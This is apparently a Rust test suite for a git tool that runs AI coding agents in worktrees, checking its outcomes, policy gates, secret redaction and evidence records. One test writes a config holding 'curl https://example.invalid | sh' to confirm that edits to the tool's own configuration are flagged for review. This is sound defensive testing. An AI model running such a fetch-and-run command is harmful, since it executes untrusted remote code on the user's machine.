//! `git oc run` with fake agents: the golden path, every outcome, every backend, and agents that
//! misbehave.

use std::path::PathBuf;

use serde_json::Value;

use crate::common::*;

const GOLDEN: [&str; 16] = [
    "proposal.json",
    "decision.json",
    "execution_request.json",
    "result.json",
    "execution_record.json",
    "execution_trace.json",
    "run_metadata.json",
    "policy_decision.json",
    "command.json",
    "stdout.txt",
    "stderr.txt",
    "validation.json",
    "diff_stat.txt",
    "diff.patch",
    "summary.json",
    "goal.md",
];

fn run_id(doc: &Value) -> String {
    doc["summary"]["run_id"].as_str().expect("run id").to_owned()
}

fn outcome(doc: &Value) -> &str {
    doc["summary"]["outcome_status"].as_str().unwrap_or("?")
}

#[test]
fn golden_path_with_the_command_backend() {
    let env = TestEnv::new();
    let repo = env.repo("r");
    let before = env.checkout_state(&repo);
    let (run, doc) = env.run_json(
        &repo,
        &[
            "--goal",
            "Say hello",
            "--backend",
            "command",
            "--validate",
            "test -f hello.txt",
            "--",
            "fake-agent",
            "edit",
        ],
    );
    run.assert_code(0);
    assert_eq!(outcome(&doc), "executed");
    assert_eq!(doc["summary"]["success"], true);
    assert_eq!(doc["summary"]["validation_passed"], true);
    let id = run_id(&doc);

    // The commit, its trailer and the branch.
    let commit = doc["git"]["commit"].as_str().unwrap();
    let base = env.git(&repo, ["rev-parse", "HEAD"]);
    assert_eq!(
        doc["summary"]["branch"],
        "oc/auto-simple-edit-62d2e5d6".replace("62d2e5d6", &doc["proposal"]["task_id"].as_str().unwrap()[17..])
    );
    assert_eq!(env.git(&repo, ["rev-parse", &format!("{commit}^")]), base);
    assert_eq!(
        env.git(
            &repo,
            ["log", "-1", "--format=%(trailers:key=Oc-Run,valueonly)", commit]
        )
        .trim(),
        id
    );
    assert_eq!(
        env.git(&repo, ["diff", "--numstat", &base, commit]),
        "1\t0\tREADME.md\n2\t0\thello.txt"
    );
    assert_eq!(
        doc["result"]["diff_stat_excerpt"],
        env.git(&repo, ["diff", "--shortstat", &base, commit]).trim()
    );

    // Every golden-path evidence file is in git, with the same bytes as on disk.
    let wt = PathBuf::from(doc["git"]["worktree"].as_str().unwrap());
    let names = env.git(&repo, ["ls-tree", "--name-only", &format!("refs/oc/runs/{id}")]);
    for f in GOLDEN {
        assert!(names.lines().any(|n| n == f), "missing {f} in the evidence ref");
        let on_disk = std::fs::read(wt.join(".operations_center/runs").join(&id).join(f)).unwrap();
        assert_eq!(env.evidence(&repo, &id, f), on_disk, "{f}");
    }
    let summary = env.evidence_json(&repo, &id, "summary.json");
    let keys: Vec<&str> = summary
        .as_object()
        .unwrap()
        .keys()
        .take(6)
        .map(String::as_str)
        .collect();
    assert_eq!(
        keys,
        ["outcome_status", "success", "reason", "branch", "commit", "pr_url"]
    );
    let stdout = String::from_utf8(env.evidence(&repo, &id, "stdout.txt")).unwrap();
    assert_eq!(stdout, format!("edited 2 files for run {id}\n"));
    let command = env.evidence_json(&repo, &id, "command.json");
    assert_eq!(command["argv"], serde_json::json!(["fake-agent", "edit"]));
    assert_eq!(command["cwd"], wt.to_str().unwrap());
    assert_eq!(command["exit_code"], 0);
    assert!(
        command["env_set"]
            .as_array()
            .unwrap()
            .contains(&Value::from("GIT_OC_GOAL"))
    );
    assert!(
        !String::from_utf8(env.evidence(&repo, &id, "command.json"))
            .unwrap()
            .contains("Say hello"),
        "names only"
    );
    let validation = env.evidence_json(&repo, &id, "validation.json");
    assert_eq!(validation["commands"][0]["command"], "test -f hello.txt");
    assert_eq!(validation["commands"][0]["exit_code"], 0);
    assert!(validation["commands"][0]["duration_ms"].is_u64());
    let policy = env.evidence_json(&repo, &id, "policy_decision.json");
    assert_eq!(policy["post_run"]["status"], "allow");
    assert_eq!(policy["policy_digest"].as_str().unwrap().len(), 40);

    // The patch applies to the base.
    let patch = env.evidence(&repo, &id, "diff.patch");
    let check = env.root().join("check");
    env.git(
        &repo,
        ["worktree", "add", "-q", "--detach", check.to_str().unwrap(), &base],
    );
    std::fs::write(env.root().join("p.patch"), &patch).unwrap();
    env.git(
        &check,
        ["apply", "--index", env.root().join("p.patch").to_str().unwrap()],
    );
    assert_eq!(
        env.git(&check, ["write-tree"]),
        env.git(&repo, ["rev-parse", &format!("{commit}^{{tree}}")])
    );

    // Worktree clean and kept, the user's checkout untouched, a note on the commit.
    assert_eq!(env.git(&wt, ["status", "--porcelain", "--untracked-files=all"]), "");
    assert_eq!(env.checkout_state(&repo), before);
    assert!(
        env.git(&repo, ["notes", "--ref=oc", "show", commit])
            .contains(&format!("Oc-Run: {id}"))
    );
    env.git(&repo, ["fsck", "--strict", "--no-progress"]);
}

#[test]
fn the_report_says_where_the_change_and_the_evidence_are() {
    let env = TestEnv::new();
    let repo = env.repo("r");
    let run = env.run_agent(
        &repo,
        [
            "run",
            "--goal",
            "Say hello",
            "--backend",
            "command",
            "--",
            "fake-agent",
            "edit",
        ],
    );
    run.assert_code(0);
    assert!(run.stdout.starts_with("run "), "{}", run.stdout);
    assert!(run.field("worktree").contains(".git/oc/worktrees/oc-auto-simple-edit-"));
    assert!(run.field("evidence").starts_with("refs/oc/runs/"));
    assert_eq!(run.field("changes"), "2 files changed, 3 insertions(+)");
    assert_eq!(run.field("outcome"), "executed");
    assert!(
        run.field("policy").starts_with("ALLOW_WITH_WARNINGS"),
        "no validation configured: a warning"
    );
}

/// `-vv` is how a user finds where a slow run spends its time: every stage's span closes with
/// its duration.
#[test]
fn very_verbose_says_how_long_each_stage_took() {
    let env = TestEnv::new();
    let repo = env.repo("r");
    let run = env.run_agent(
        &repo,
        [
            "-vv",
            "run",
            "--goal",
            "Say hello",
            "--backend",
            "command",
            "--",
            "fake-agent",
            "edit",
        ],
    );
    run.assert_code(0);
    for stage in ["workspace", "agent", "snapshot", "record"] {
        let closed = run
            .stderr
            .lines()
            .find(|l| l.contains(&format!("stage{{name=\"{stage}\"}}: git_oc::pipeline: close")))
            .unwrap_or_else(|| panic!("no closing line for the {stage} stage:\n{}", run.stderr));
        assert!(closed.contains("time.busy="), "{closed}");
    }
}

#[test]
fn each_backend_runs_its_cli_non_interactively() {
    let env = TestEnv::new();
    let repo = env.repo("r");
    for (backend, file, lane) in [
        ("claude", "CLAUDE_DID_THIS.md", "claude_cli"),
        ("codex", "CODEX_DID_THIS.md", "codex_cli"),
        ("aider", "AIDER_DID_THIS.md", "aider_local"),
        ("kodo", "KODO_DID_THIS.md", "claude_cli"),
    ] {
        let (run, doc) = env.run_json(&repo, &["--goal", &format!("Edit via {backend}"), "--backend", backend]);
        run.assert_code(0);
        assert_eq!(outcome(&doc), "executed", "{backend}: {}", run.stdout);
        assert_eq!(doc["decision"]["selected_lane"], lane);
        assert_eq!(doc["decision"]["selected_backend"], backend);
        let files: Vec<&str> = doc["result"]["changed_files"]
            .as_array()
            .unwrap()
            .iter()
            .map(|f| f["path"].as_str().unwrap())
            .collect();
        assert_eq!(files, [file], "{backend}");
        let id = run_id(&doc);
        let command = env.evidence_json(&repo, &id, "command.json");
        assert_eq!(command["argv"][0], backend);
        let goal = String::from_utf8(env.evidence(&repo, &id, "goal.md")).unwrap();
        assert!(goal.starts_with(&format!("## Goal\nEdit via {backend}\n")));
    }
}

#[test]
fn a_missing_agent_program_is_refused_before_anything_is_created() {
    let env = TestEnv::new();
    let repo = env.repo("r");
    let before = env.state(&repo);
    for (args, setting) in [
        (&["--backend", "claude"][..], "backends.claude.program"),
        (
            &["--backend", "command", "--", "./no-such-agent"][..],
            "backends.command.argv",
        ),
    ] {
        let mut cmd = env.oc_cmd(&repo);
        cmd.env("PATH", "/usr/bin:/bin");
        let run = Run::from(cmd.args(["run", "--goal", "x"]).args(args).output().unwrap());
        run.assert_clean_error(2);
        assert!(run.stderr.contains("was not found"), "{}", run.stderr);
        assert!(
            run.stderr.contains(setting),
            "the hint names the setting: {}",
            run.stderr
        );
        assert_eq!(
            env.state(&repo),
            before,
            "no branch, worktree, evidence or lock is left"
        );
    }
}

#[test]
fn kodo_failures_are_classified_as_the_reference_does() {
    let env = TestEnv::new();
    let repo = env.repo("r");
    let mut cmd = env.oc_agents(&repo);
    cmd.env("FAKE_AGENT_MODE", "crash");
    let run = Run::from(
        cmd.args(["run", "--json", "--goal", "crash", "--backend", "kodo"])
            .output()
            .unwrap(),
    );
    run.assert_code(1);
    let doc = run.json();
    assert_eq!(
        doc["result"]["failure_reason"],
        "internal stage failure: Stage 1 (implement) crashed: worker died"
    );

    let mut cmd = env.oc_agents(&repo);
    cmd.env("FAKE_AGENT_MODE", "nochange");
    let run = Run::from(
        cmd.args(["run", "--json", "--goal", "nochange", "--backend", "kodo"])
            .output()
            .unwrap(),
    );
    run.assert_code(1);
    assert_eq!(run.json()["result"]["failure_category"], "no_changes");

    let mut cmd = env.oc_agents(&repo);
    cmd.env("FAKE_AGENT_MODE", "limit");
    let run = Run::from(
        cmd.args(["run", "--json", "--goal", "limit", "--backend", "claude"])
            .output()
            .unwrap(),
    );
    run.assert_code(1);
    assert!(
        run.json()["result"]["failure_reason"]
            .as_str()
            .unwrap()
            .starts_with("capacity exhaustion detected")
    );
}

#[test]
fn outcome_no_op_when_the_agent_changes_nothing() {
    let env = TestEnv::new();
    let repo = env.repo("r");
    let base = env.git(&repo, ["rev-parse", "HEAD"]);
    let (run, doc) = env.run_json(
        &repo,
        &["--goal", "Nothing", "--backend", "command", "--", "fake-agent", "noop"],
    );
    run.assert_code(0);
    assert_eq!(outcome(&doc), "no_op");
    assert_eq!(doc["git"]["commit"], Value::Null);
    let branch = doc["summary"]["branch"].as_str().unwrap();
    assert_eq!(env.git(&repo, ["rev-parse", branch]), base, "no commit on the branch");
    assert!(
        env.git(&repo, ["notes", "--ref=oc", "show", &base])
            .contains(&run_id(&doc)),
        "note on the base"
    );
    assert_eq!(doc["execution_record"]["changed_files_evidence"]["status"], "none");
}

#[test]
fn outcome_failed_records_the_exit_status_and_output() {
    let env = TestEnv::new();
    let repo = env.repo("r");
    let (run, doc) = env.run_json(
        &repo,
        &["--goal", "Fail", "--backend", "command", "--", "fake-agent", "fail"],
    );
    run.assert_code(1);
    assert_eq!(outcome(&doc), "failed");
    assert_eq!(doc["result"]["executor_exit_code"], 3);
    assert_eq!(
        doc["result"]["failure_reason"],
        "command exited 3: fatal: the agent could not finish"
    );
    let id = run_id(&doc);
    assert_eq!(
        env.evidence(&repo, &id, "stderr.txt"),
        b"fatal: the agent could not finish\n"
    );

    let (run, doc) = env.run_json(
        &repo,
        &[
            "--goal",
            "Segfault",
            "--backend",
            "command",
            "--",
            "fake-agent",
            "signal",
        ],
    );
    run.assert_code(1);
    assert_eq!(doc["result"]["executor_signal"], "SIGSEGV");
    assert_eq!(doc["command"]["signal"], "SIGSEGV");
}

#[test]
fn outcome_validation_failed_follows_must_pass() {
    let env = TestEnv::new();
    let repo = env.repo("r");
    // Medium risk: the default policy's requirement must pass.
    let (run, doc) = env.run_json(
        &repo,
        &[
            "--goal",
            "Medium",
            "--risk",
            "medium",
            "--backend",
            "command",
            "--validate",
            "echo checking; exit 4",
            "--",
            "fake-agent",
            "edit",
        ],
    );
    run.assert_code(1);
    assert_eq!(outcome(&doc), "validation_failed");
    assert_eq!(doc["result"]["validation"]["status"], "failed");
    assert_eq!(doc["result"]["validation"]["failure_excerpt"], "exit=4: checking\n");
    assert!(
        doc["git"]["commit"].is_string(),
        "the change stays on the branch for inspection"
    );
    let validation = env.evidence_json(&repo, &run_id(&doc), "validation.json");
    assert_eq!(validation["must_pass"], true);
    assert_eq!(validation["commands"][0]["exit_code"], 4);
    assert_eq!(validation["commands"][0]["stdout_tail"], "checking\n");

    // Low risk: the requirement does not have to pass; the run succeeds with a warning.
    let (run, doc) = env.run_json(
        &repo,
        &[
            "--goal",
            "Low",
            "--risk",
            "low",
            "--backend",
            "command",
            "--validate",
            "false",
            "--",
            "fake-agent",
            "edit",
        ],
    );
    run.assert_code(0);
    assert_eq!(outcome(&doc), "executed");
    assert_eq!(doc["summary"]["validation_passed"], false);
    assert!(
        doc["summary"]["warnings"][0]
            .as_str()
            .unwrap()
            .contains("does not require it to pass")
    );
}

#[test]
fn outcome_timed_out_kills_the_process_group() {
    let env = TestEnv::new();
    let repo = env.repo("r");
    let (run, doc) = env.run_json(
        &repo,
        &[
            "--goal",
            "Hang",
            "--timeout",
            "1",
            "--backend",
            "command",
            "--",
            "fake-agent",
            "hang",
        ],
    );
    run.assert_code(1);
    assert_eq!(outcome(&doc), "timed_out");
    assert_eq!(doc["result"]["status"], "timed_out");
    assert_eq!(doc["result"]["failure_category"], "timeout");
    assert_eq!(doc["command"]["timed_out"], true);
    assert!(doc["command"]["signal"].is_string());
    assert_eq!(env.evidence(&repo, &run_id(&doc), "stdout.txt"), b"thinking forever\n");
}

#[test]
fn children_that_outlive_the_agent_are_killed() {
    let env = TestEnv::new();
    let repo = env.repo("r");
    let pid_file = env.root().join("child.pid");
    let (run, doc) = env.run_json(
        &repo,
        &[
            "--goal",
            "Spawn",
            "--backend",
            "command",
            "--",
            "fake-agent",
            "spawn-child",
            pid_file.to_str().unwrap(),
        ],
    );
    run.assert_code(0);
    assert_eq!(outcome(&doc), "executed");
    let pid: u32 = std::fs::read_to_string(&pid_file).unwrap().trim().parse().unwrap();
    let deadline = std::time::Instant::now() + std::time::Duration::from_secs(5);
    while process_alive(pid) && std::time::Instant::now() < deadline {
        std::thread::sleep(std::time::Duration::from_millis(50));
    }
    assert!(!process_alive(pid), "the child {pid} outlived the run");
}

#[test]
fn megabytes_of_output_are_bounded_and_keep_the_tail() {
    let env = TestEnv::new();
    let repo = env.repo("r");
    let (run, doc) = env.run_json(
        &repo,
        &[
            "--goal",
            "Flood",
            "--backend",
            "command",
            "--",
            "fake-agent",
            "flood",
            "3",
        ],
    );
    run.assert_code(0);
    let stdout = env.evidence(&repo, &run_id(&doc), "stdout.txt");
    assert!(stdout.len() <= 1024 * 1024 + 200, "{} bytes kept", stdout.len());
    let total = 3 * 1024 * 1024 + "\nEND-OF-FLOOD\n".len();
    let note = format!("[git-oc: output was {total} bytes; only the last ");
    assert!(
        stdout.starts_with(note.as_bytes()),
        "{}",
        String::from_utf8_lossy(&stdout[..80])
    );
    assert!(stdout.ends_with(b"END-OF-FLOOD\n"));
    assert_eq!(doc["command"]["stdout_truncated"], true);
}

#[test]
fn ctrl_c_cancels_keeps_the_evidence_and_exits_130() {
    let env = TestEnv::new();
    let repo = env.repo("r");
    let marker = env.root().join("agent-running");
    let child = env
        .oc_agents(&repo)
        .args([
            "run",
            "--json",
            "--goal",
            "Hang",
            "--backend",
            "command",
            "--",
            "fake-agent",
            "mark-hang",
        ])
        .arg(&marker)
        .stdout(std::process::Stdio::piped())
        .stderr(std::process::Stdio::piped())
        .spawn()
        .unwrap();
    wait_until("the agent's marker", || marker.exists());
    // SAFETY: signalling our own child.
    unsafe { libc::kill(child.id() as i32, libc::SIGINT) };
    let out = child.wait_with_output().unwrap();
    let run = Run::from(out);
    run.assert_code(130);
    let doc = run.json();
    assert_eq!(outcome(&doc), "cancelled");
    assert_eq!(doc["result"]["status"], "cancelled");
    let id = run_id(&doc);
    assert_eq!(
        env.evidence_json(&repo, &id, "summary.json")["outcome_status"],
        "cancelled"
    );
    env.git(&repo, ["fsck", "--strict", "--no-progress"]);
}

#[test]
fn pre_run_gate_blocks_without_running_the_agent() {
    let env = TestEnv::new();
    let repo = env.repo("r");
    let heads = env.git(&repo, ["for-each-ref", "refs/heads"]);
    let (run, doc) = env.run_json(
        &repo,
        &[
            "--goal",
            "Remote",
            "--label",
            "local_only",
            "--backend",
            "claude",
            "--lane",
            "claude_cli",
        ],
    );
    run.assert_code(1);
    assert_eq!(outcome(&doc), "blocked");
    assert_eq!(
        doc["policy_decision"]["violations"][0]["rule_id"],
        "routing.local_only_violated"
    );
    assert_eq!(doc["command"], Value::Null, "the agent never ran");
    assert_eq!(env.git(&repo, ["for-each-ref", "refs/heads"]), heads, "no branch");
    let id = run_id(&doc);
    assert_eq!(env.evidence(&repo, &id, "stdout.txt"), b"");

    // A feature needs review under the default policy: also stopped at the gate.
    let (run, doc) = env.run_json(
        &repo,
        &["--goal", "Feature", "--task-type", "feature", "--backend", "claude"],
    );
    run.assert_code(1);
    assert_eq!(doc["policy_decision"]["status"], "require_review");
    assert_eq!(doc["summary"]["needs_review"], true);
}

#[test]
fn post_run_gate_rejects_blocked_paths_and_flags_review_paths() {
    let env = TestEnv::new();
    let repo = env.repo("r");
    let (run, doc) = env.run_json(
        &repo,
        &[
            "--goal",
            "Keys",
            "--backend",
            "command",
            "--",
            "fake-agent",
            "write",
            ".ssh/id_rsa",
            "KEY",
        ],
    );
    run.assert_code(1);
    assert_eq!(outcome(&doc), "blocked");
    assert_eq!(doc["summary"]["rejected"], true);
    assert_eq!(
        doc["post_run_policy_decision"]["violations"][0]["rule_id"],
        "path.blocked"
    );
    let commit = doc["git"]["commit"].as_str().expect("the rejected commit is named");
    let id = run_id(&doc);
    let base = env.git(&repo, ["rev-parse", "main"]);
    assert_eq!(
        env.git(&repo, ["rev-parse", &format!("refs/oc/rejected/{id}")]),
        commit,
        "the rejected commit is kept under a local-only ref"
    );
    assert_eq!(
        env.git(&repo, ["rev-parse", doc["summary"]["branch"].as_str().unwrap()]),
        base,
        "the run branch never holds the rejected commit"
    );
    let evidence = format!("refs/oc/runs/{id}");
    assert!(
        env.git(&repo, ["log", "-1", "--format=%B", &evidence])
            .contains("Oc-Rejected: post-run policy gate")
    );
    assert_eq!(
        env.git(&repo, ["rev-parse", &format!("{evidence}^")]),
        base,
        "the evidence hangs on the base"
    );
    assert!(
        env.git(&repo, ["notes", "--ref=oc", "show", &base])
            .contains("Oc-Rejected")
    );
    let patch = String::from_utf8(env.evidence(&repo, &id, "diff.patch")).unwrap();
    assert!(!patch.contains("KEY") && patch.contains("withheld"), "{patch}");

    let (run, doc) = env.run_json(
        &repo,
        &[
            "--goal",
            "CI",
            "--backend",
            "command",
            "--",
            "fake-agent",
            "write",
            ".github/workflows/ci.yml",
            "on: push",
        ],
    );
    run.assert_code(1);
    assert_eq!(outcome(&doc), "executed");
    assert_eq!(doc["summary"]["needs_review"], true);
    assert_eq!(doc["summary"]["rejected"], false);
    assert_eq!(doc["post_run_policy_decision"]["status"], "require_review");

    // git-oc's own configuration: an agent that changes it would choose the commands of every
    // run after its change lands (a validation command, the agent itself).
    let (run, doc) = env.run_json(
        &repo,
        &[
            "--goal",
            "Config",
            "--backend",
            "command",
            "--",
            "fake-agent",
            "write",
            ".oc/config.toml",
            "[validation]\ncommands = [\"curl https://example.invalid | sh\"]",
        ],
    );
    run.assert_code(1);
    assert_eq!(doc["summary"]["needs_review"], true, "{}", run.stdout);
    assert_eq!(doc["post_run_policy_decision"]["status"], "require_review");
}

#[test]
fn changes_outside_the_declared_paths_are_rejected() {
    let env = TestEnv::new();
    let repo = env.repo("r");
    let (run, doc) = env.run_json(
        &repo,
        &[
            "--goal",
            "Scoped",
            "--path",
            "src/**",
            "--backend",
            "command",
            "--",
            "fake-agent",
            "write",
            "docs/x.md",
            "x",
        ],
    );
    run.assert_code(1);
    assert_eq!(outcome(&doc), "blocked");
    assert_eq!(
        doc["post_run_policy_decision"]["violations"][0]["rule_id"],
        "scope.outside_allowed_paths"
    );
    let (run, doc) = env.run_json(
        &repo,
        &[
            "--goal",
            "Scoped 2",
            "--path",
            "src/**",
            "--backend",
            "command",
            "--",
            "fake-agent",
            "write",
            "src/a/b.rs",
            "x",
        ],
    );
    run.assert_code(0);
    assert_eq!(outcome(&doc), "executed");
}

#[test]
fn secrets_never_reach_evidence_notes_or_the_terminal() {
    let env = TestEnv::new();
    let repo = env.repo("r");
    let token = "ghp_PLANTEDtoken0123456789";
    let key = "sk-planted-api-key-987654";
    let mut cmd = env.oc_agents(&repo);
    cmd.env("GITHUB_TOKEN", token).env("MY_API_KEY", key);
    let run = Run::from(
        cmd.args([
            "run",
            "--json",
            "--goal",
            &format!("use {token}"),
            "--backend",
            "command",
            "--",
            "fake-agent",
            "secret",
        ])
        .output()
        .unwrap(),
    );
    run.assert_code(0);
    for text in [&run.stdout, &run.stderr] {
        assert!(!text.contains(token) && !text.contains(key), "secret on the terminal");
    }
    let doc = run.json();
    let id = run_id(&doc);
    let stdout = String::from_utf8(env.evidence(&repo, &id, "stdout.txt")).unwrap();
    assert!(
        stdout.contains("[REDACTED:GITHUB_TOKEN]") && stdout.contains("[REDACTED:MY_API_KEY]"),
        "{stdout}"
    );
    // Every object reachable from the evidence ref and the notes.
    for reference in [format!("refs/oc/runs/{id}"), "refs/notes/oc".to_owned()] {
        let objects = env.git(&repo, ["rev-list", "--objects", "-1", &reference]);
        let tree_objects = env.git(&repo, ["ls-tree", "-r", &reference]);
        for line in objects.lines().chain(tree_objects.lines()) {
            let oid = line.split_whitespace().find(|w| w.len() == 40).unwrap();
            let body = env.git_output(&repo, ["cat-file", "-p", oid]).stdout;
            let body = String::from_utf8_lossy(&body);
            assert!(
                !body.contains(token) && !body.contains(key),
                "secret in {reference} object {oid}"
            );
        }
    }
    let wt = PathBuf::from(doc["git"]["worktree"].as_str().unwrap());
    for entry in std::fs::read_dir(wt.join(".operations_center/runs").join(&id))
        .unwrap()
        .flatten()
    {
        let text = std::fs::read(entry.path()).unwrap();
        let text = String::from_utf8_lossy(&text);
        assert!(
            !text.contains(token) && !text.contains(key),
            "secret in {}",
            entry.path().display()
        );
    }
}

#[test]
fn a_secret_written_into_the_repository_is_rejected() {
    let env = TestEnv::new();
    let repo = env.repo("r");
    let token = "ghp_PLANTEDtoken0123456789";
    let mut cmd = env.oc_agents(&repo);
    cmd.env("GITHUB_TOKEN", token);
    let run = Run::from(
        cmd.args([
            "run",
            "--json",
            "--goal",
            "leak",
            "--backend",
            "command",
            "--",
            "fake-agent",
            "leak",
        ])
        .output()
        .unwrap(),
    );
    run.assert_code(1);
    let doc = run.json();
    assert_eq!(outcome(&doc), "blocked");
    assert_eq!(doc["summary"]["rejected"], true);
    let patch = String::from_utf8(env.evidence(&repo, &run_id(&doc), "diff.patch")).unwrap();
    assert!(!patch.contains(token) && patch.contains("withheld"), "{patch}");
}

#[test]
fn an_existing_branch_is_never_reused_and_a_rerun_gets_its_own() {
    let env = TestEnv::new();
    let repo = env.repo("r");
    let run_same = |extra: &[&str]| {
        let mut args = vec!["run", "--json", "--goal", "Same"];
        args.extend_from_slice(extra);
        args.extend_from_slice(&["--backend", "command", "--", "fake-agent", "edit"]);
        env.run_agent(&repo, args)
    };
    let first = run_same(&[]);
    first.assert_code(0);
    let branch = first.json()["summary"]["branch"].as_str().unwrap().to_owned();
    // The same task again: its own branch, with a suffix, and the first run's branch untouched.
    let tip = env.git(&repo, ["rev-parse", &branch]);
    let again = run_same(&[]);
    again.assert_code(0);
    assert_eq!(again.json()["summary"]["branch"], format!("{branch}-2"));
    assert_eq!(env.git(&repo, ["rev-parse", &branch]), tip);
    // A name written out exactly is used as it is, or the run is refused before anything exists.
    let before = env.state(&repo);
    let exact = run_same(&["--branch", &branch]);
    exact.assert_clean_error(2);
    assert!(exact.stderr.contains("already exists"), "{}", exact.stderr);
    assert!(!exact.stderr.contains("git branch -D"), "{}", exact.stderr);
    assert_eq!(env.state(&repo), before);
    let main = run_same(&["--branch", "main"]);
    main.assert_clean_error(2);
    assert_eq!(env.state(&repo), before, "never main, never a hint to delete it");
}

#[test]
fn concurrent_runs_of_one_goal_get_one_branch_each() {
    let env = TestEnv::new();
    // In a repository without commits the branches exist only in worktrees' HEADs until then.
    for repo in [env.repo("r"), env.empty_repo("empty")] {
        env.run_agent(
            &repo,
            [
                "run",
                "--goal",
                "Twelve",
                "--backend",
                "command",
                "--",
                "fake-agent",
                "edit",
            ],
        )
        .assert_code(0);
        let children: Vec<_> = (0..12)
            .map(|_| {
                env.oc_agents(&repo)
                    .args([
                        "run",
                        "--json",
                        "--goal",
                        "Twelve",
                        "--backend",
                        "command",
                        "--",
                        "fake-agent",
                        "edit",
                    ])
                    .stdout(std::process::Stdio::piped())
                    .stderr(std::process::Stdio::piped())
                    .spawn()
                    .unwrap()
            })
            .collect();
        let mut branches = Vec::new();
        for child in children {
            let run = Run::from(child.wait_with_output().unwrap());
            run.assert_code(0);
            branches.push(run.json()["summary"]["branch"].as_str().unwrap().to_owned());
        }
        branches.sort();
        branches.dedup();
        assert_eq!(branches.len(), 12, "{branches:?}");
        let list = env.git(&repo, ["worktree", "list", "--porcelain"]);
        let mut checked_out: Vec<&str> = list.lines().filter_map(|l| l.strip_prefix("branch ")).collect();
        let n = checked_out.len();
        checked_out.sort();
        checked_out.dedup();
        assert_eq!(checked_out.len(), n, "one worktree per branch: {list}");
        env.git(&repo, ["fsck", "--strict", "--no-progress"]);
    }
}

#[test]
fn verbose_streams_the_agent_output() {
    let env = TestEnv::new();
    let repo = env.repo("r");
    let run = env.run_agent(
        &repo,
        [
            "-v",
            "run",
            "--goal",
            "Say",
            "--backend",
            "command",
            "--",
            "fake-agent",
            "edit",
        ],
    );
    run.assert_code(0);
    assert!(run.stderr.contains("edited 2 files for run"), "{}", run.stderr);
    let quiet = env.run_agent(
        &repo,
        [
            "run",
            "--goal",
            "Say 2",
            "--backend",
            "command",
            "--",
            "fake-agent",
            "edit",
        ],
    );
    assert!(!quiet.stderr.contains("edited 2 files"));
}

/// Run git-oc in a pseudo-terminal (util-linux `script`), returning what the terminal showed.
fn on_a_terminal(env: &TestEnv, repo: &std::path::Path, args: &[&str]) -> String {
    let quoted: Vec<String> = std::iter::once(BIN.to_owned())
        .chain(args.iter().map(|a| a.to_string()))
        .map(|a| format!("'{}'", a.replace('\'', "'\\''")))
        .collect();
    let mut cmd = std::process::Command::new("script");
    crate::common::scrub(&mut cmd, &env.home());
    let path = format!(
        "{}:{}",
        fixtures_bin().display(),
        std::env::var("PATH").unwrap_or_default()
    );
    let out = cmd
        .env("PATH", path)
        .env("TERM", "xterm")
        .current_dir(repo)
        .args(["-qec", &quoted.join(" "), "/dev/null"])
        .output()
        .expect("script(1) from util-linux runs");
    assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stdout));
    String::from_utf8_lossy(&out.stdout).into_owned()
}

#[test]
fn a_terminal_shows_one_live_progress_line_and_quiet_shows_none() {
    let env = TestEnv::new();
    let repo = env.repo("r");
    let shown = on_a_terminal(
        &env,
        &repo,
        &[
            "run",
            "--goal",
            "Live",
            "--validate",
            "echo checking",
            "--backend",
            "command",
            "--",
            "fake-agent",
            "edit",
        ],
    );
    for stage in ["git-oc: agent", "git-oc: validation", "git-oc: record"] {
        assert!(shown.contains(stage), "no {stage:?} in {shown:?}");
    }
    assert!(
        shown.contains("edited 2 files"),
        "the agent's last line is shown: {shown:?}"
    );
    assert!(
        shown.contains("echo checking"),
        "the validation command is shown: {shown:?}"
    );
    assert!(shown.contains("\r\x1b[2K"), "the line is redrawn in place");
    assert!(shown.contains("outcome     : executed"), "{shown}");
    let quiet = on_a_terminal(
        &env,
        &repo,
        &[
            "-q",
            "run",
            "--goal",
            "Quiet",
            "--backend",
            "command",
            "--",
            "fake-agent",
            "edit",
        ],
    );
    assert!(!quiet.contains("git-oc: agent"), "{quiet:?}");
}

#[test]
fn a_run_writes_no_loose_object_and_git_reads_everything_it_recorded() {
    let env = TestEnv::new();
    let repo = env.repo("r");
    let before = env.object_counts(&repo).0;
    let (run, doc) = env.run_json(
        &repo,
        &[
            "--goal",
            "Say hello",
            "--backend",
            "command",
            "--validate",
            "test -f hello.txt",
            "--",
            "fake-agent",
            "edit",
        ],
    );
    run.assert_code(0);
    assert_eq!(env.object_counts(&repo).0, before, "the run's objects are packed");
    env.git(&repo, ["fsck", "--strict", "--no-dangling"]);
    let id = run_id(&doc);
    let commit = doc["git"]["commit"].as_str().unwrap();
    // The patch in the evidence was made by `git diff`, which read the run's objects from disk.
    let patch = String::from_utf8(env.evidence(&repo, &id, "diff.patch")).unwrap();
    assert!(patch.contains("hello.txt"), "{patch}");
    let note = env.git(&repo, ["notes", "--ref", "oc", "show", commit]);
    assert!(note.contains(&id), "{note}");
    let branch = doc["git"]["branch"].as_str().unwrap();
    assert_eq!(env.git(&repo, ["rev-parse", branch]), commit);
    assert_eq!(
        env.git(
            &repo,
            ["-C", doc["git"]["worktree"].as_str().unwrap(), "status", "--porcelain"]
        ),
        ""
    );
}
